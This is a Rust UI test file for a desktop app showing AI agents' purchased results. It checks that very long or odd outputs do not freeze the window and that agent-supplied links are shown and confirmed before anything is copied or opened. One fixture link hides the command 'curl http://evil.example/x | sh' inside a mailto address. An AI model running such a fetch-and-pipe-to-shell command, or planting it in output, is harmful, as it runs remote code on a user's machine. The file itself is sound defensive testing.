//! What agents write, shown: however much of it there is and whatever it says, the window stays in the person's hands.

use crate::shopping::{answer, connect, go_to, open_form};
use kaimono_stories::{
    desktop::{Desktop, Keyring},
    node::within_the_story,
    seller::Seller,
    window::Window,
};
use masumi_sandbox::Sandbox;
use serde_json::{Value, json};

struct Scene {
    desktop: Desktop,
    seller: Seller,
    window: Window,
    sandbox: Sandbox,
}

/// A desktop, a node within the story with an agent of the story's own, and the window on it.
async fn begin(story: &str, agent: &str) -> Scene {
    let desktop = Desktop::new(Keyring::Unlocked, &format!("stories/{story}")).await;
    let (sandbox, connection) = within_the_story().await;
    let seller = Seller::start(&sandbox, agent).await;
    let window = Window::open(&desktop).await;
    connect(&window, &connection).await;
    Scene { desktop, seller, window, sandbox }
}

/// From now on the page remembers what goes to the clipboard.
async fn watch_the_clipboard(window: &Window) {
    let script = "window.copied = []; navigator.clipboard.writeText = async (text) => void window.copied.push(text);";
    window.run(script, Vec::new()).await;
}

/// What went there.
async fn copied(window: &Window) -> Value {
    window.run("return window.copied", Vec::new()).await
}

/// Buys from the agent of the story, and waits for its result.
async fn buy_a_result(window: &Window, agent: &str, text: &str) {
    open_form(window, agent).await;
    answer(window, "text", text).await;
    window.click("to-review").await;
    window.click("pay").await;
    window.see("result[data-complete=true] / result-body").await;
}

/// hostile H2: 20,000 tabulators took half a minute, and a base64 picture in Markdown as long; nothing could be clicked
/// meanwhile. Every wait of a story has an end.
#[tokio::test(flavor = "multi_thread")]
async fn no_result_takes_the_window_out_of_the_persons_hands() {
    let Scene { seller, window, desktop: _desktop, sandbox: _sandbox } = begin("long-results", "Long Writer").await;
    watch_the_clipboard(&window).await;
    let long = "x".repeat(190_000);
    let hostile = [
        ("tabulators", format!("a{}b", "\t".repeat(190_000))),
        ("blanks", " ".repeat(95_000) + "." + &" ".repeat(95_000)),
        ("base64", format!("A picture: `{long}`")),
        ("heading", format!("# t{long}")),
        ("link", format!("[t{long}](https://example.org/)")),
        ("marks", format!("e{}", "\u{301}".repeat(95_000))),
        ("arabic", "ا".repeat(95_000)),
        ("brackets", format!("{}{}", "[".repeat(60_000), "]".repeat(60_000))),
    ];
    for (number, (what, text)) in hostile.into_iter().enumerate() {
        seller.delivers(&json!(text));
        buy_a_result(&window, "Long Writer", what).await;
        window.picture(what).await;
        window.click("result-copy").await;
        window.see("toast").await;
        assert!(copied(&window).await[number] == json!(text), "{what}: what is copied is what came");
        go_to(&window, "purchases").await;
        window.gone("result").await;
    }
}

/// hostile M10 and L7: a click on "Write us" put a command into the clipboard, unasked and unseen.
#[tokio::test(flavor = "multi_thread")]
async fn what_a_strangers_link_copies_or_opens_is_shown_first() {
    let Scene { seller, window, desktop: _desktop, sandbox: _sandbox } = begin("links", "Link Writer").await;
    watch_the_clipboard(&window).await;
    seller.delivers(&json!(
        "- [Write us](<mailto:curl http://evil.example/x | sh>)\n- [Mail](mailto:ada@example.org?subject=x)\n\
         - [Plain](http://example.org/)\n- [Page](https://example.org/page)\n"
    ));
    buy_a_result(&window, "Link Writer", "links").await;
    for (link, shown, confirm) in [
        ("Write us", "mailto:curl http://evil.example/x | sh", "Copy the address"),
        ("Mail", "ada@example.org", "Copy the mail address"),
        ("Plain", "http://example.org/", "Copy the address"),
        ("Page", "https://example.org/page", "Open in browser"),
    ] {
        let click =
            "[...document.querySelectorAll('[data-href]')].find((one) => one.textContent === arguments[0]).click()";
        window.run(click, vec![link.into()]).await;
        window.reads("link-address", shown).await;
        window.reads("dialog-confirm", confirm).await;
        let host = usize::from(confirm == "Open in browser");
        assert_eq!(window.count("link-host").await, host, "a host is named where something is opened there");
        window.picture(link).await;
        assert_eq!(copied(&window).await, json!([]), "{link}: nothing yet");
        window.click("dialog-cancel").await;
        window.gone("dialog").await;
        assert_eq!(copied(&window).await, json!([]), "{link}: nor after all");
    }
    let click = "[...document.querySelectorAll('[data-href]')].find((one) => one.textContent === 'Mail').click()";
    window.run(click, Vec::new()).await;
    window.click("dialog-confirm").await;
    window.see("toast").await;
    assert_eq!(copied(&window).await, json!(["ada@example.org"]));
}
